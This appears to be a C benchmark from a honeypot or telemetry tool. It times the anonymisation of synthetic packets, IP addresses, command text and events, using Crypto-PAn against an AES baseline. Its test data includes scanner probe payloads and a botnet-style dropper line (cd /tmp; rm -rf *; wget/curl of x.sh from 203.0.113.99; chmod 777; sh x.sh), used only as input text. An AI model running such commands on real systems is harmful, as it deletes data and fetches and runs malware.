/*
 * Anonymising: packets a core-second through a view, and addresses and text by themselves; beside Crypto-PAn as
 * published, a cipher's block for each bit of each address.
 *
 *   make build/plain/program/bench/anonymise && build/plain/program/bench/anonymise [SOURCES]
 *   build/plain/program/bench/anonymise --write FILE PACKETS      the same packets as a capture, for others to read
 *
 * Dark traffic: SYNs from so many sources (default 200,000, as heavy as their rank is low) to a /16, one in twenty
 * packets with a payload, one in two hundred of these naming us.
 */
#include "share/view.h"
#include <openssl/evp.h>
#include <stdlib.h>
#include <time.h>

#define FRAMES (1u << 16)
#define FRAME_MAX 256
#define SECONDS_EACH 2.0

struct frames {
	uint8_t at[FRAMES][FRAME_MAX];
	size_t len[FRAMES];
};

static double cpu_s(void)
{
	struct timespec t;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static uint64_t next_random(uint64_t *state)
{
	*state ^= *state << 13;
	*state ^= *state >> 7;
	*state ^= *state << 17;
	return *state;
}

/* The source's rank drawn so that the first tenth sends nearly all. */
static uint32_t source_of(uint64_t *state, uint64_t sources)
{
	const double u = (double)(next_random(state) >> 11) / 9007199254740992.0;
	const uint64_t rank = (uint64_t)(u * u * u * (double)sources);
	return (uint32_t)(0x01000000 + (rank * UINT64_C(0x9e3779b97f4a7c15) >> 33) % 0xde000000);
}

static size_t frame_make(uint8_t *at, uint32_t src, uint32_t dst, const char *payload)
{
	struct writer w = writer_of(at, FRAME_MAX);
	const size_t len = strlen(payload);
	write_zero(&w, 12);
	write_u16(&w, 0x0800);
	write_u16(&w, 0x4500);
	write_u16(&w, (uint16_t)(40 + len));
	write_u32(&w, 0x12340000);
	write_u32(&w, 0x3106abcd);
	write_u32(&w, src);
	write_u32(&w, dst);
	write_u32(&w, 0x9c400017);
	write_u64(&w, 0x0102030405060708);
	write_u32(&w, 0x50023908);
	write_u32(&w, 0x12340000);
	write_text(&w, payload);
	while (writer_used(&w) < 60)
		write_u8(&w, 0);
	return writer_used(&w);
}

static void frames_make(struct frames *f, uint64_t sources, unsigned with_payload)
{
	static const char *const payloads[] = {
		"GET /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\nHost: example.com\r\nUser-Agent: Go-http-client/1.1\r\n\r\n",
		"\x03\x01\x13\x0e\xe0\x01 Cookie: mstshash=Administr\r\n\x01\x08\x0b", "SSH-2.0-Go\r\n",
		"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\nFrom: <sip:nm@nm>;tag=root\r\nMax-Forwards: 70\r\n\r\n",
	};
	uint64_t state = 88172645463325252;
	for (size_t i = 0; i < FRAMES; i++) {
		const uint64_t r = next_random(&state);
		const char *payload = r % 100 < with_payload ? payloads[r >> 32 & 3] : "";
		if (*payload && r % 20000 < with_payload)
			payload = "GET / HTTP/1.1\r\nHost: 10.20.30.40\r\n\r\n";
		f->len[i] = frame_make(f->at[i], source_of(&state, sources), 0x0a140000 | (r >> 16 & 0xffff), payload);
	}
}

static struct view *view_make(void)
{
	static const char *const rules[] = {"src=crypto-pan", "dst=crypto-pan"};
	struct view *v;
	struct prefix own;
	struct fault fault = {0};
	struct view_about about = {.policy = "default", .lasting = true, .own = &own, .own_count = 1, .rules = rules, .rule_count = 2};
	for (unsigned i = 0; i < VIEW_KEY_BYTES; i++)
		about.key[i] = (uint8_t)(i * 7);
	if (!prefix_parse(BYTES("10.20.0.0/16"), &own) || event_start(&fault) || view_open(&v, &about, &fault)) {
		fprintf(stderr, "anonymise: %s\n", fault.text);
		exit(1);
	}
	return v;
}

static double packets_per_s(struct view *v, const struct frames *f)
{
	uint8_t frame[FRAME_MAX];
	uint64_t done = 0;
	const double begin = cpu_s();
	double used;
	do {
		for (size_t i = 0; i < FRAMES; i++) {
			memcpy(frame, f->at[i], f->len[i]);
			view_packet(v, 1, frame, f->len[i]);
		}
		done += FRAMES;
		used = cpu_s() - begin;
	} while (used < SECONDS_EACH);
	return (double)done / used;
}

/* As published: 32 blocks for one address of IPv4. */
static double plain_per_s(void)
{
	static const uint8_t key[16] = {1, 2, 3};
	EVP_CIPHER_CTX *aes = EVP_CIPHER_CTX_new();
	uint8_t block[16] = {0}, out[16];
	uint64_t done = 0;
	int n;
	if (!aes || EVP_EncryptInit_ex(aes, EVP_aes_128_ecb(), NULL, key, NULL) != 1)
		exit(1);
	const double begin = cpu_s();
	double used;
	do {
		for (unsigned bit = 0; bit < 32000; bit++) {
			block[bit / 8 % 4] ^= (uint8_t)(1 << bit % 8);
			EVP_EncryptUpdate(aes, out, &n, block, 16);
		}
		done += 1000;
		used = cpu_s() - begin;
	} while (used < SECONDS_EACH / 4);
	EVP_CIPHER_CTX_free(aes);
	return (double)done / used;
}

static double addresses_per_s(struct view *v, bool v6)
{
	uint64_t state = 7, done = 0;
	const double begin = cpu_s();
	double used;
	do {
		for (unsigned i = 0; i < 4096; i++) {
			struct address a = address_v4((uint32_t)next_random(&state));
			const uint64_t low = next_random(&state);
			if (v6) {
				memcpy(a.b + 8, &low, 8);
				a.b[0] = 0x20;
				a.b[7] = (uint8_t)(low >> 11);
			}
			a = view_address(v, &a, FIELD_SRC);
		}
		done += 4096;
		used = cpu_s() - begin;
	} while (used < SECONDS_EACH / 2);
	return (double)done / used;
}

static double text_mb_per_s(struct view *v)
{
	static const char line[] =
		"cd /tmp; rm -rf *; wget http://203.0.113.99/bins/x.sh?a=%2Fbin%2Fsh || curl -O http://203.0.113.99/x.sh; "
		"echo -ne \"\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\" > .a; echo aGVsbG8gd29ybGQgdGhpcyBpcyB0ZXh0 | base64 -d; "
		"cat /proc/mounts; /bin/busybox ECCHI; chmod 777 x.sh; sh x.sh 10.9.8.7\r\n";
	struct arena arena = ARENA(1u << 20);
	uint64_t done = 0;
	const double begin = cpu_s();
	double used;
	do {
		for (unsigned i = 0; i < 256; i++) {
			view_clean(v, BYTES(line), &arena);
			arena_done(&arena);
		}
		done += 256 * (sizeof line - 1);
		used = cpu_s() - begin;
	} while (used < SECONDS_EACH / 2);
	return (double)done / used / 1e6;
}

static double events_per_s(struct view *v)
{
	static struct event in, out;
	struct id_maker maker = id_maker_new();
	const struct address src = address_v4(0xcb007105), dst = address_v4(0x0a140102);
	uint64_t done = 0;
	const double begin = cpu_s();
	double used;
	do {
		for (unsigned i = 0; i < 256; i++) {
			event_begin(&in, EVENT_COMMAND_SENT);
			in.time_us = UINT64_C(1434000000000000) + i;
			in.id = id_make(&maker, in.time_us);
			event_set_id(&in, FIELD_SESSION, &in.id);
			event_set_address(&in, FIELD_SRC, &src);
			event_set_address(&in, FIELD_DST, &dst);
			event_set_number(&in, FIELD_DPORT, 23);
			event_set_text(&in, FIELD_PROTO, "tcp");
			event_set_text(&in, FIELD_SERVICE, "telnet");
			event_set_text(&in, FIELD_SENSOR, "north");
			event_set_bytes(&in, FIELD_COMMAND_LINE, BYTES("cd /tmp; wget http://203.0.113.99/x.sh; sh x.sh"));
			view_event(v, &in, &out);
		}
		done += 256;
		used = cpu_s() - begin;
	} while (used < SECONDS_EACH / 2);
	return (double)done / used;
}

static int write_capture(const struct frames *f, const char *path, uint64_t packets)
{
	static const uint32_t head[6] = {0xa1b2c3d4, 0x00040002, 0, 0, 262144, 1};
	FILE *out = fopen(path, "wb");
	if (!out)
		return 1;
	fwrite(head, sizeof head, 1, out);
	for (uint64_t i = 0; i < packets; i++) {
		const uint32_t len = (uint32_t)f->len[i % FRAMES];
		const uint32_t record[4] = {1434000000 + (uint32_t)(i / 100000), (uint32_t)(i % 100000 * 10), len, len};
		fwrite(record, sizeof record, 1, out);
		fwrite(f->at[i % FRAMES], len, 1, out);
	}
	return fclose(out) != 0;
}

int main(int argc, char **argv)
{
	static struct frames frames;
	const uint64_t sources = argc == 2 ? strtoull(argv[1], NULL, 10) : 200000;
	frames_make(&frames, sources, 5);
	if (argc == 4 && !strcmp(argv[1], "--write"))
		return write_capture(&frames, argv[2], strtoull(argv[3], NULL, 10));
	struct view *v = view_make();
	const double plain = plain_per_s(), some = packets_per_s(v, &frames);
	printf("packets, one in twenty with a payload  %6.2f M/s\n", some / 1e6);
	frames_make(&frames, sources, 0);
	printf("packets without payload                %6.2f M/s\n", packets_per_s(v, &frames) / 1e6);
	frames_make(&frames, sources, 100);
	printf("packets with a payload each            %6.2f M/s\n", packets_per_s(v, &frames) / 1e6);
	const double v4 = addresses_per_s(v, false);
	printf("addresses of IPv4, all new             %6.2f M/s, %.1f times as published (%.2f M/s)\n", v4 / 1e6, v4 / plain,
	       plain / 1e6);
	printf("addresses of IPv6, all new             %6.2f M/s\n", addresses_per_s(v, true) / 1e6);
	printf("text of commands                       %6.1f MB/s\n", text_mb_per_s(v));
	printf("events, a command each                 %6.2f M/s\n", events_per_s(v) / 1e6);
	view_close(v);
	return 0;
}
